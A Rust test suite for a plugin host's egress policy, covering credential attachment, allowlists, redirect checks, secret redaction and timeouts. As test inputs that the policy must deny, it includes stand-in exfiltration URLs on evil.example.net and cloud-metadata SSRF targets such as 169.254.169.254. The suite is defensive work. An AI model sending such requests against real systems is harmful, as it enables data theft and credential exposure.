//! Outbound HTTP through `Imports` against real servers on loopback, reached through upstream
//! overrides: what the servers receive (credentials exactly as the manifest attaches them,
//! nothing for hosts without an attachment), what the policy refuses, and what the call log
//! keeps.

use std::{
    net::SocketAddr,
    sync::{
        Mutex,
        atomic::{AtomicUsize, Ordering},
    },
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
};

use super::*;
use crate::{
    imports::{CallEnv, Imports, http::Host as _},
    manifest::Manifest,
};

/// A request as a server received it.
#[derive(Clone, Debug)]
struct Received {
    method: String,
    /// Path and query.
    target: String,
    /// Names in lower case.
    headers: Vec<(String, String)>,
    body: Vec<u8>,
    /// The request line and headers as sent.
    head: String,
}

impl Received {
    fn all(&self, name: &str) -> Vec<&str> {
        self.headers.iter().filter(|(n, _)| n == name).map(|(_, v)| v.as_str()).collect()
    }
}

/// An HTTP/1.1 server on 127.0.0.1 answering every request with what `answer` makes of it (a
/// whole response; `None` never answers), keeping the requests and counting connections.
struct Server {
    addr: SocketAddr,
    received: Arc<Mutex<Vec<Received>>>,
    connections: Arc<AtomicUsize>,
}

impl Server {
    async fn start(answer: impl Fn(&Received) -> Option<Vec<u8>> + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let received = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(AtomicUsize::new(0));
        let (kept, counted, answer) = (received.clone(), connections.clone(), Arc::new(answer));
        tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                counted.fetch_add(1, Ordering::SeqCst);
                let (kept, answer) = (kept.clone(), answer.clone());
                tokio::spawn(async move {
                    let Some(request) = read_request(&mut stream).await else { return };
                    kept.lock().unwrap().push(request.clone());
                    match answer(&request) {
                        Some(response) => {
                            let _ = stream.write_all(&response).await;
                            let _ = stream.shutdown().await;
                        }
                        None => tokio::time::sleep(Duration::from_secs(30)).await,
                    }
                });
            }
        });
        Self { addr, received, connections }
    }

    fn base(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn received(&self) -> Vec<Received> {
        self.received.lock().unwrap().clone()
    }

    fn only(&self) -> Received {
        let received = self.received();
        assert_eq!(received.len(), 1, "{received:?}");
        received[0].clone()
    }
}

async fn read_request(stream: &mut TcpStream) -> Option<Received> {
    let mut data = Vec::new();
    let mut buf = [0; 4096];
    let end = loop {
        if let Some(at) = data.windows(4).position(|w| w == b"\r\n\r\n") {
            break at;
        }
        let n = stream.read(&mut buf).await.ok().filter(|&n| n > 0)?;
        data.extend_from_slice(&buf[..n]);
    };
    let head = String::from_utf8_lossy(&data[..end]).into_owned();
    let mut lines = head.split("\r\n");
    let mut first = lines.next()?.split(' ');
    let (method, target) = (first.next()?.to_owned(), first.next()?.to_owned());
    let headers: Vec<(String, String)> = lines
        .filter_map(|line| line.split_once(':'))
        .map(|(name, value)| (name.trim().to_ascii_lowercase(), value.trim().to_owned()))
        .collect();
    let length: usize =
        headers.iter().find(|(n, _)| n == "content-length").map_or(0, |(_, v)| v.parse().unwrap());
    let mut body = data[end + 4..].to_vec();
    while body.len() < length {
        let n = stream.read(&mut buf).await.ok().filter(|&n| n > 0)?;
        body.extend_from_slice(&buf[..n]);
    }
    Some(Received { method, target, headers, body, head })
}

fn respond(status: u16, headers: &[(&str, &str)], body: &[u8]) -> Option<Vec<u8>> {
    let mut head =
        format!("HTTP/1.1 {status} Whatever\r\ncontent-length: {}\r\nconnection: close\r\n", body.len());
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str("\r\n");
    Some([head.as_bytes(), body].concat())
}

const HOSTS: &str = r#"
[[hosts]]
host = "bearer.example.com"
credential = { kind = "bearer" }

[[hosts]]
host = "basic.example.com"
credential = { kind = "basic" }

[[hosts]]
host = "*.header.example.com"
credential = { kind = "header", name = "X-Api-Key" }

[[hosts]]
host = "query.example.com"
credential = { kind = "query", name = "api_key" }

[[hosts]]
host = "plain.example.com"

[[hosts]]
host = "nocreds.example.com"
credential = { kind = "bearer" }

[[hosts]]
host = "mismatch.example.com"
credential = { kind = "basic" }

[[hosts]]
host = "127.0.0.1"

[[hosts]]
host = "169.254.169.254"

[[hosts]]
host = "100.100.100.200"

[[hosts]]
host = "internal.example.com"

[[hosts]]
host = "metadata.example.com"

[[hosts]]
host = "linklocal.example.com"
"#;

const BEARER: &str = "tok_bearer_0123456789";
const USERNAME: &str = "AC0001";
const PASSWORD: &str = "pw_basic_9876543210";
const HEADER_KEY: &str = "key_header_abcdefghij";
const QUERY_KEY: &str = "key/query+uvwxyz==";
const QUERY_KEY_ENCODED: &str = "key%2Fquery%2Buvwxyz%3D%3D";

fn manifest() -> Arc<Manifest> {
    let text = format!("id = \"probe\"\nversion = \"1.0.0\"\nports = [\"crm\"]\n{HOSTS}");
    Arc::new(Manifest::parse(&text).unwrap())
}

fn credentials() -> BTreeMap<String, Credential> {
    BTreeMap::from([
        ("bearer.example.com".to_owned(), Credential::Token(BEARER.into())),
        (
            "basic.example.com".to_owned(),
            Credential::Basic { username: USERNAME.into(), password: PASSWORD.into() },
        ),
        ("*.header.example.com".to_owned(), Credential::Token(HEADER_KEY.into())),
        ("query.example.com".to_owned(), Credential::Token(QUERY_KEY.into())),
        ("mismatch.example.com".to_owned(), Credential::Token("tok_mismatch_000000".into())),
    ])
}

/// Development mode, with `hosts` sent to their servers.
fn development(hosts: &[(&str, &Server)]) -> EgressSettings {
    let upstream_overrides = hosts.iter().map(|(host, server)| ((*host).to_owned(), server.base())).collect();
    EgressSettings { development: true, upstream_overrides, ..EgressSettings::default() }
}

fn imports_with(egress: Egress, deadline: Option<Instant>) -> Imports {
    let env = CallEnv { credentials: Arc::new(credentials()), ..CallEnv::default() };
    Imports::new(env, Arc::new(egress), Some(manifest()), deadline)
}

fn imports(settings: EgressSettings) -> Imports {
    imports_with(Egress::new(settings).unwrap(), None)
}

fn request(method: &str, url: &str, headers: &[(&str, &str)]) -> Request {
    Request {
        method: method.into(),
        url: url.into(),
        headers: headers.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect(),
        body: None,
        timeout_ms: None,
    }
}

fn get(url: &str) -> Request {
    request("GET", url, &[])
}

fn denied(result: Result<Response, HttpError>) -> String {
    match result {
        Err(HttpError::Denied(message)) => message,
        other => panic!("not denied: {other:?}"),
    }
}

fn ok() -> Option<Vec<u8>> {
    respond(200, &[], b"ok")
}

#[tokio::test]
async fn credentials_arrive_exactly_as_the_manifest_attaches_them() {
    let server = Server::start(|_| ok()).await;
    let hosts = ["bearer.example.com", "basic.example.com", "api.header.example.com", "query.example.com"];
    let mut imports = imports(development(&hosts.map(|host| (host, &server))));

    let plugins_own = [("Authorization", "Bearer made-up"), ("X-Custom", "1")];
    let bearer = imports.send(request("GET", "https://bearer.example.com/v1/a", &plugins_own)).await;
    assert_eq!(bearer.unwrap().body, b"ok");
    let seen = server.only();
    assert_eq!(seen.all("authorization"), [format!("Bearer {BEARER}")]);
    assert_eq!(seen.all("x-custom"), ["1"]);
    assert_eq!(seen.target, "/v1/a");

    server.received.lock().unwrap().clear();
    imports.send(get("https://basic.example.com/2010-04-01/Accounts")).await.unwrap();
    let expected = base64::engine::general_purpose::STANDARD.encode(format!("{USERNAME}:{PASSWORD}"));
    assert_eq!(server.only().all("authorization"), [format!("Basic {expected}")]);

    server.received.lock().unwrap().clear();
    let plugins_own = [("x-api-key", "made-up"), ("Authorization", "Bearer made-up")];
    imports.send(request("GET", "https://API.header.example.com/v2/b", &plugins_own)).await.unwrap();
    let seen = server.only();
    assert_eq!(seen.all("x-api-key"), [HEADER_KEY]);
    assert!(seen.all("authorization").is_empty(), "{seen:?}");

    server.received.lock().unwrap().clear();
    imports.send(get("https://query.example.com/v1/items?page=2&api_key=made-up")).await.unwrap();
    let seen = server.only();
    assert_eq!(seen.target, format!("/v1/items?page=2&api_key={QUERY_KEY_ENCODED}"));
    assert!(seen.all("authorization").is_empty(), "{seen:?}");
    assert!(imports.http.iter().all(|call| call.outcome == HttpOutcome::Ok), "{:?}", imports.http);
}

#[tokio::test]
async fn a_host_without_an_attachment_gets_no_credential() {
    let server = Server::start(|_| ok()).await;
    let mut imports = imports(development(&[("plain.example.com", &server)]));
    imports.send(request("POST", "https://plain.example.com/v1/items?page=2", &[])).await.unwrap();
    let seen = server.only();
    assert_eq!((seen.method.as_str(), seen.target.as_str()), ("POST", "/v1/items?page=2"));
    assert!(seen.all("authorization").is_empty() && seen.all("x-api-key").is_empty(), "{seen:?}");
    for secret in [BEARER, PASSWORD, HEADER_KEY, QUERY_KEY_ENCODED] {
        assert!(!seen.head.contains(secret), "{}", seen.head);
    }
}

#[tokio::test]
async fn hosts_off_the_list_are_denied_and_recorded() {
    let server = Server::start(|_| ok()).await;
    let mut imports = imports(development(&[("plain.example.com", &server)]));
    let message = denied(imports.send(get("https://evil.example.net/collect?stolen=1")).await);
    assert!(message.contains("`evil.example.net`"), "{message}");
    assert_eq!(
        imports.http,
        [HttpCall {
            method: "GET".into(),
            host: "evil.example.net".into(),
            path: "/collect".into(),
            status: None,
            millis: imports.http[0].millis,
            outcome: HttpOutcome::Denied(message),
        }]
    );
    for url in
        ["https://plain.example.com.evil.net/", "https://header.example.com/", "ftp://plain.example.com/"]
    {
        denied(imports.send(get(url)).await);
    }
    let message = denied(imports.send(get("https://user:pw@plain.example.com/")).await);
    assert!(message.contains("user name or password"), "{message}");
    denied(imports.send(get("not a url")).await);
    assert_eq!(imports.http.len(), 6);
    assert!(server.received().is_empty());

    // a plugin without a manifest reaches nothing
    let egress = Arc::new(Egress::new(development(&[("plain.example.com", &server)])).unwrap());
    let mut bare = Imports::new(CallEnv::default(), egress, None, None);
    let message = denied(bare.send(get("https://plain.example.com/")).await);
    assert!(message.contains("`plain.example.com`"), "{message}");
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn missing_or_mismatched_credentials_are_denied() {
    let server = Server::start(|_| ok()).await;
    let hosts = [("nocreds.example.com", &server), ("mismatch.example.com", &server)];
    let mut imports = imports(development(&hosts));
    let message = denied(imports.send(get("https://nocreds.example.com/")).await);
    assert_eq!(message, "no credentials for nocreds.example.com in this tenant's connection");
    let message = denied(imports.send(get("https://mismatch.example.com/")).await);
    assert!(message.contains("mismatch.example.com") && message.contains("token"), "{message}");
    assert!(server.received().is_empty());
}

#[tokio::test]
async fn plain_http_is_for_loopback_in_development_mode_only() {
    let server = Server::start(|_| ok()).await;
    let mut dev = imports(development(&[("plain.example.com", &server)]));
    let message = denied(dev.send(get("http://plain.example.com/v1")).await);
    assert!(message.contains("plain http to `plain.example.com`"), "{message}");
    assert!(server.received().is_empty());
    let local = format!("http://{}/v1", server.addr);
    assert_eq!(dev.send(get(&local)).await.unwrap().status, 200);

    let mut production = imports(EgressSettings::default());
    let message = denied(production.send(get(&local)).await);
    assert!(message.contains("loopback"), "{message}");
    let message = denied(production.send(get(&format!("https://{}/v1", server.addr))).await);
    assert!(message.contains("loopback"), "{message}");
    assert_eq!(server.connections.load(Ordering::SeqCst), 1, "only the development request connected");
}

/// A listener that counts connections and closes each at once.
async fn closing_listener() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let connections = Arc::new(AtomicUsize::new(0));
    let counted = connections.clone();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    (port, connections)
}

#[tokio::test]
async fn names_resolving_to_loopback_are_refused_at_connection_outside_development_mode() {
    let (port, connections) = closing_listener().await;
    let names = || BTreeMap::from([("internal.example.com".to_owned(), vec!["127.0.0.1".parse().unwrap()])]);
    let url = format!("https://internal.example.com:{port}/admin");

    let production = Egress::with_names(EgressSettings::default(), names()).unwrap();
    let mut imports = imports_with(production, None);
    let message = denied(imports.send(get(&url)).await);
    assert!(message.contains("`internal.example.com` resolves to 127.0.0.1"), "{message}");
    assert!(matches!(imports.http[0].outcome, HttpOutcome::Denied(_)));
    assert_eq!(connections.load(Ordering::SeqCst), 0);

    // the same name in development mode connects (and fails, the listener hangs up)
    let development = EgressSettings { development: true, ..EgressSettings::default() };
    let mut imports = imports_with(Egress::with_names(development, names()).unwrap(), None);
    let result = imports.send(get(&url)).await;
    assert!(matches!(result, Err(HttpError::Transport(_))), "{result:?}");
    assert_eq!(connections.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn metadata_and_link_local_addresses_are_refused_even_in_development_mode() {
    let names = BTreeMap::from([
        ("metadata.example.com".to_owned(), vec!["169.254.169.254".parse().unwrap()]),
        (
            "linklocal.example.com".to_owned(),
            vec!["fe80::1".parse().unwrap(), "169.254.3.4".parse().unwrap()],
        ),
    ]);
    let development = EgressSettings { development: true, ..EgressSettings::default() };
    let mut imports = imports_with(Egress::with_names(development, names).unwrap(), None);
    for (url, reason) in [
        ("http://169.254.169.254/latest/meta-data/", "cloud metadata"),
        ("https://169.254.169.254/latest/meta-data/", "cloud metadata"),
        ("https://100.100.100.200/", "cloud metadata"),
        ("https://[fd00:ec2::254]/", "cloud metadata"),
        ("https://[::ffff:169.254.169.254]/", "cloud metadata"),
        ("https://0.0.0.0/", "unspecified"),
        ("https://metadata.example.com/latest", "cloud metadata"),
        ("https://linklocal.example.com/", "link-local"),
    ] {
        let message = denied(imports.send(get(url)).await);
        assert!(message.contains(reason), "{url}: {message}");
    }
    let message = denied(imports.send(get("https://metadata.example.com/")).await);
    assert!(message.contains("resolves to 169.254.169.254"), "{message}");
}

#[tokio::test]
async fn a_redirect_off_the_list_is_refused() {
    let server =
        Server::start(|_| respond(302, &[("location", "https://evil.example.net/steal?x=1")], b"")).await;
    let mut imports = imports(development(&[("bearer.example.com", &server)]));
    let message = denied(imports.send(get("https://bearer.example.com/start")).await);
    assert!(message.contains("`evil.example.net`"), "{message}");
    let summary: Vec<_> = imports.http.iter().map(|c| (c.host.as_str(), c.path.as_str(), c.status)).collect();
    assert_eq!(summary, [("bearer.example.com", "/start", Some(302)), ("evil.example.net", "/steal", None)]);
    assert!(matches!(imports.http[1].outcome, HttpOutcome::Denied(_)));
}

#[tokio::test]
async fn redirects_are_followed_and_checked_again_without_carrying_credentials() {
    let first = Server::start(|request| match request.target.as_str() {
        "/start" => respond(307, &[("location", "https://plain.example.com/step?x=1")], b""),
        "/see-other" => respond(303, &[("location", "/landed")], b""),
        "/to-http" => respond(302, &[("location", "http://plain.example.com/")], b""),
        _ => respond(200, &[], b"landed"),
    })
    .await;
    let second =
        Server::start(|_| respond(308, &[("location", "https://api.header.example.com/final")], b"")).await;
    let third = Server::start(|_| respond(200, &[], b"done")).await;
    let mut imports = imports(development(&[
        ("bearer.example.com", &first),
        ("plain.example.com", &second),
        ("api.header.example.com", &third),
    ]));

    let mut post = request("POST", "https://bearer.example.com/start", &[("cookie", "session=1")]);
    post.body = Some(b"payload".to_vec());
    let response = imports.send(post).await.unwrap();
    assert_eq!((response.status, response.body.as_slice()), (200, &b"done"[..]));
    let at_first = first.only();
    assert_eq!(at_first.all("authorization"), [format!("Bearer {BEARER}")]);
    assert_eq!(at_first.all("cookie"), ["session=1"]);
    let at_second = second.only();
    assert_eq!((at_second.method.as_str(), at_second.target.as_str()), ("POST", "/step?x=1"));
    assert_eq!(at_second.body, b"payload");
    assert!(at_second.all("authorization").is_empty() && at_second.all("cookie").is_empty(), "{at_second:?}");
    let at_third = third.only();
    assert_eq!((at_third.method.as_str(), at_third.body.as_slice()), ("POST", &b"payload"[..]));
    assert_eq!(at_third.all("x-api-key"), [HEADER_KEY]);
    assert!(at_third.all("authorization").is_empty(), "{at_third:?}");
    let statuses: Vec<_> = imports.http.iter().map(|call| (call.host.as_str(), call.status)).collect();
    assert_eq!(
        statuses,
        [
            ("bearer.example.com", Some(307)),
            ("plain.example.com", Some(308)),
            ("api.header.example.com", Some(200))
        ]
    );

    // a 303 continues as a GET without the body, on the same host with its credential again
    first.received.lock().unwrap().clear();
    let mut post = request("POST", "https://bearer.example.com/see-other", &[]);
    post.body = Some(b"payload".to_vec());
    assert_eq!(imports.send(post).await.unwrap().body, b"landed");
    let landed = first.received().pop().unwrap();
    assert_eq!((landed.method.as_str(), landed.target.as_str()), ("GET", "/landed"));
    assert!(landed.body.is_empty());
    assert_eq!(landed.all("authorization"), [format!("Bearer {BEARER}")]);

    // every hop is checked: plain http to an allowed host is refused after a redirect too
    let message = denied(imports.send(get("https://bearer.example.com/to-http")).await);
    assert!(message.contains("plain http"), "{message}");
}

#[tokio::test]
async fn a_redirect_carrying_a_credential_to_another_host_is_refused() {
    let to_plain = format!("https://plain.example.com/leak?k={QUERY_KEY_ENCODED}");
    let server = Server::start(move |_| respond(302, &[("location", &to_plain)], b"")).await;
    let hosts = [("query.example.com", &server), ("plain.example.com", &server)];
    let mut imports = imports(development(&hosts));
    let message = denied(imports.send(get("https://query.example.com/v1")).await);
    assert!(message.contains("carries a credential"), "{message}");
    assert_eq!(server.received().len(), 1, "only the first request went out");
}

#[tokio::test]
async fn redirects_stop_at_the_limit() {
    let server = Server::start(|_| respond(302, &[("location", "/again")], b"")).await;
    let settings = EgressSettings { max_redirects: 2, ..development(&[("plain.example.com", &server)]) };
    let mut imports = imports(settings);
    let result = imports.send(get("https://plain.example.com/loop")).await;
    assert!(matches!(&result, Err(HttpError::Transport(m)) if m.contains("2 redirects")), "{result:?}");
    assert_eq!(server.received().len(), 3);
    assert_eq!(imports.http.len(), 3);
}

#[tokio::test]
async fn an_oversized_response_is_too_large() {
    let server = Server::start(|request| match request.target.as_str() {
        "/declared" => respond(200, &[], &[b'x'; 2000]),
        "/fits" => respond(200, &[], &[b'x'; 1000]),
        _ => {
            let chunk = "x".repeat(600);
            let body = format!("258\r\n{chunk}\r\n258\r\n{chunk}\r\n0\r\n\r\n");
            let head = "HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n";
            Some(format!("{head}{body}").into_bytes())
        }
    })
    .await;
    let settings =
        EgressSettings { max_response_bytes: 1000, ..development(&[("plain.example.com", &server)]) };
    let mut imports = imports(settings);
    for path in ["/declared", "/chunked"] {
        let result = imports.send(get(&format!("https://plain.example.com{path}"))).await;
        assert!(matches!(result, Err(HttpError::TooLarge)), "{path}: {result:?}");
    }
    assert_eq!(imports.send(get("https://plain.example.com/fits")).await.unwrap().body.len(), 1000);
    let outcomes: Vec<_> = imports.http.iter().map(|call| (call.status, call.outcome.clone())).collect();
    assert_eq!(
        outcomes,
        [
            (Some(200), HttpOutcome::TooLarge),
            (Some(200), HttpOutcome::TooLarge),
            (Some(200), HttpOutcome::Ok)
        ]
    );
}

#[tokio::test]
async fn credentials_echoed_by_an_endpoint_are_redacted() {
    let server = Server::start(|request| {
        let authorization = request.all("authorization").first().map_or("", |v| v).to_owned();
        respond(200, &[("x-echo", &authorization)], request.head.as_bytes())
    })
    .await;
    let hosts = ["bearer.example.com", "basic.example.com", "query.example.com"];
    let mut imports = imports(development(&hosts.map(|host| (host, &server))));

    let response = imports.send(get("https://bearer.example.com/echo")).await.unwrap();
    let body = String::from_utf8(response.body).unwrap();
    assert!(body.contains("Bearer [redacted]") && !body.contains(BEARER), "{body}");
    assert!(
        response.headers.contains(&("x-echo".into(), "Bearer [redacted]".into())),
        "{:?}",
        response.headers
    );

    let response = imports.send(get("https://basic.example.com/echo")).await.unwrap();
    let body = String::from_utf8(response.body).unwrap();
    assert!(body.contains("Basic [redacted]"), "{body}");
    assert!(
        response.headers.contains(&("x-echo".into(), "Basic [redacted]".into())),
        "{:?}",
        response.headers
    );

    let response = imports.send(get("https://query.example.com/echo?page=1")).await.unwrap();
    let body = String::from_utf8(response.body).unwrap();
    assert!(body.contains("GET /echo?page=1&api_key=[redacted] HTTP/1.1"), "{body}");
    assert!(!body.contains(QUERY_KEY_ENCODED) && !body.contains(QUERY_KEY), "{body}");
}

#[tokio::test]
async fn the_call_log_keeps_no_query_or_credential() {
    let server = Server::start(|request| match request.target.as_str() {
        "/moved?q=private-search" => respond(302, &[("location", "/final?q=private-search")], b""),
        _ => ok(),
    })
    .await;
    let hosts = ["bearer.example.com", "basic.example.com", "query.example.com"];
    let mut imports = imports(development(&hosts.map(|host| (host, &server))));
    imports.send(get("https://query.example.com/v1?q=private-search")).await.unwrap();
    imports.send(get("https://bearer.example.com/moved?q=private-search")).await.unwrap();
    imports.send(get("https://basic.example.com/v1?q=private-search")).await.unwrap();
    denied(imports.send(get("https://evil.example.net/v1?q=private-search")).await);
    assert_eq!(imports.http.len(), 5);
    let log = format!("{:?}", imports.http);
    let encoded = base64::engine::general_purpose::STANDARD.encode(format!("{USERNAME}:{PASSWORD}"));
    for leak in ["?", "private-search", "api_key", BEARER, PASSWORD, &encoded, QUERY_KEY, QUERY_KEY_ENCODED] {
        assert!(!log.contains(leak), "`{leak}` in {log}");
    }
}

#[tokio::test]
async fn requests_end_at_their_timeout_or_the_calls_deadline() {
    let server = Server::start(|_| None).await;
    let hosts = [("plain.example.com", &server)];
    let mut imports = imports(development(&hosts));
    let started = Instant::now();
    let mut slow = get("https://plain.example.com/slow");
    slow.timeout_ms = Some(200);
    assert!(matches!(imports.send(slow).await, Err(HttpError::Timeout)));
    assert!(started.elapsed() < Duration::from_secs(2), "{:?}", started.elapsed());
    assert_eq!(imports.http[0].outcome, HttpOutcome::Timeout);

    let deadline = Instant::now() + Duration::from_millis(200);
    let mut imports = imports_with(Egress::new(development(&hosts)).unwrap(), Some(deadline));
    let started = Instant::now();
    assert!(matches!(imports.send(get("https://plain.example.com/slow")).await, Err(HttpError::Timeout)));
    assert!(started.elapsed() < Duration::from_secs(2), "the default 10 s gave way to the call's deadline");

    let settings = EgressSettings { max_timeout: Duration::from_millis(200), ..development(&hosts) };
    let mut capped = imports_with(Egress::new(settings).unwrap(), None);
    let mut long = get("https://plain.example.com/slow");
    long.timeout_ms = Some(60_000);
    let started = Instant::now();
    assert!(matches!(capped.send(long).await, Err(HttpError::Timeout)));
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "the timeout asked for is cut to the longest allowed"
    );
}

#[tokio::test]
async fn transport_errors_name_no_credential() {
    let closed = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", closed.local_addr().unwrap());
    drop(closed);
    let settings = EgressSettings {
        development: true,
        upstream_overrides: BTreeMap::from([("query.example.com".to_owned(), base)]),
        ..EgressSettings::default()
    };
    let mut imports = imports(settings);
    match imports.send(get("https://query.example.com/v1")).await {
        Err(HttpError::Transport(message)) => {
            assert!(!message.contains(QUERY_KEY_ENCODED) && !message.contains("api_key"), "{message}")
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(imports.http[0].outcome, HttpOutcome::Transport);
}
